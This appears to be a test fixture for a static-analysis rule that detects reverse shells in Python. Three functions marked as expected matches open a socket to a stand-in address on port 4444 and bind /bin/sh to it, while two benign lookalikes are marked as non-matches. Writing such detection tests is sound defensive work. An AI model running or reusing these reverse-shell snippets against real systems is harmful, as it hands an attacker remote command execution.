import os
import pty
import socket
import socket as s
import subprocess


def direct():
    connection = socket.socket()
    connection.connect(("203.0.113.5", 4444))
    # ruleid: python.network.reverse-shell
    os.dup2(connection.fileno(), 0)
    subprocess.call(["/bin/sh", "-i"])


def aliased():
    connection = s.socket(s.AF_INET, s.SOCK_STREAM)
    connection.connect(("203.0.113.5", 4444))
    # ruleid: python.network.reverse-shell
    subprocess.Popen(["/bin/sh"], stdin=connection, stdout=connection)


def terminal():
    connection = socket.socket()
    connection.connect(("203.0.113.5", 4444))
    # ruleid: python.network.reverse-shell
    pty.spawn("/bin/sh")


def files(path):
    log = open(path, "w")
    # ok: python.network.reverse-shell
    os.dup2(log.fileno(), 1)
    # ok: python.network.reverse-shell
    subprocess.Popen(["ls"], stdin=log, stdout=log)


def service():
    connection = socket.socket()
    # ok: python.network.reverse-shell
    os.dup2(connection.fileno(), 9)
